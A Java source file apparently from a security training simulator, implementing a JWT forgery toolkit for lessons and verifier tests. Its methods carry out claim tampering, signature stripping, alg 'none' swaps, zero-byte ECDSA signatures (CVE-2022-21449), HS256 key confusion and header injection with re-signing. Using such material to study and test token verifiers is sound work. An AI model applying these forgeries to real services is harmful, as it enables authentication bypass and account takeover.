package dev.trustflow.sim.crypto.jwt;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JOSEObject;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jose.util.JSONObjectUtils;
import java.nio.charset.StandardCharsets;
import java.text.ParseException;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * The attacker's toolkit (what jwt_tool does), for lessons and tests: each method really rewrites the token's
 * bytes and, where the attack signs, really signs with nimbus. Nothing here decides whether an attack works;
 * the verifier does.
 */
public final class JwtForgery {

    private JwtForgery() {
    }

    /** Edits one payload claim and keeps the original signature (tampering without re-signing). */
    public static String withClaim(String compact, String claim, Object value) {
        Base64URL[] parts = split(compact);
        Map<String, Object> payload = json(parts[1]);
        payload.put(claim, value);
        return parts[0] + "." + encode(payload) + "." + parts[2];
    }

    /** Drops the signature, keeping the trailing dot: {@code header.payload.}. */
    public static String stripSignature(String compact) {
        Base64URL[] parts = split(compact);
        return parts[0] + "." + parts[1] + ".";
    }

    /** Rewrites the header's alg (e.g. none, None, NONE); keeps the old signature or leaves it empty. */
    public static String withAlg(String compact, String alg, boolean keepSignature) {
        Base64URL[] parts = split(compact);
        Map<String, Object> header = json(parts[0]);
        header.put("alg", alg);
        return encode(header) + "." + parts[1] + "." + (keepSignature ? parts[2] : "");
    }

    /** A signature of the right length made of zero bytes (for ES256: r = s = 0, CVE-2022-21449). */
    public static String zeroSignature(String compact) {
        Base64URL[] parts = split(compact);
        return parts[0] + "." + parts[1] + "." + Base64URL.encode(new byte[parts[2].decode().length]);
    }

    /**
     * Algorithm confusion: sets alg to HS256 and signs header.payload with HMAC-SHA256 keyed with
     * {@code secret} (typically the server's public key bytes, which anyone can download).
     */
    public static String hmacResign(String compact, byte[] secret) {
        Base64URL[] parts = split(compact);
        Map<String, Object> header = json(parts[0]);
        header.put("alg", JWSAlgorithm.HS256.getName());
        return sign(encode(header), parts[1], secret);
    }

    /**
     * Changes header parameters ({@code null} removes one) and re-signs with {@code attackerKey}
     * (its alg goes in the header), or keeps the old signature when {@code attackerKey} is null.
     */
    public static String withHeader(String compact, Map<String, Object> changes, JWK attackerKey) {
        Base64URL[] parts = split(compact);
        Map<String, Object> header = json(parts[0]);
        changes.forEach((k, v) -> {
            if (v == null) {
                header.remove(k);
            } else {
                header.put(k, v);
            }
        });
        if (attackerKey == null) {
            return encode(header) + "." + parts[1] + "." + parts[2];
        }
        header.put("alg", JwsSigners.algorithmFor(attackerKey).getName());
        try {
            Base64URL headerPart = encode(header);
            JWSHeader parsed = JWSHeader.parse(headerPart);
            byte[] input = (headerPart + "." + parts[1]).getBytes(StandardCharsets.US_ASCII);
            return headerPart + "." + parts[1] + "." + JwsSigners.signerFor(attackerKey).sign(parsed, input);
        } catch (ParseException | JOSEException e) {
            throw new IllegalArgumentException("cannot re-sign: " + e.getMessage(), e);
        }
    }

    private static String sign(Base64URL headerPart, Base64URL payloadPart, byte[] secret) {
        try {
            byte[] input = (headerPart + "." + payloadPart).getBytes(StandardCharsets.US_ASCII);
            Base64URL mac = new MACSigner(secret).sign(JWSHeader.parse(headerPart), input);
            return headerPart + "." + payloadPart + "." + mac;
        } catch (ParseException | JOSEException e) {
            throw new IllegalArgumentException("cannot sign with HMAC: " + e.getMessage(), e);
        }
    }

    private static Base64URL[] split(String compact) {
        try {
            Base64URL[] parts = JOSEObject.split(compact.strip());
            if (parts.length != 3) {
                throw new IllegalArgumentException("not a signed JWT (" + parts.length + " parts)");
            }
            return parts;
        } catch (ParseException e) {
            throw new IllegalArgumentException("not a compact JWT: " + e.getMessage(), e);
        }
    }

    private static Map<String, Object> json(Base64URL part) {
        try {
            return new LinkedHashMap<>(JSONObjectUtils.parse(part.decodeToString()));
        } catch (ParseException e) {
            throw new IllegalArgumentException("part is not JSON: " + e.getMessage(), e);
        }
    }

    private static Base64URL encode(Map<String, Object> json) {
        return Base64URL.encode(JSONObjectUtils.toJSONString(json));
    }
}
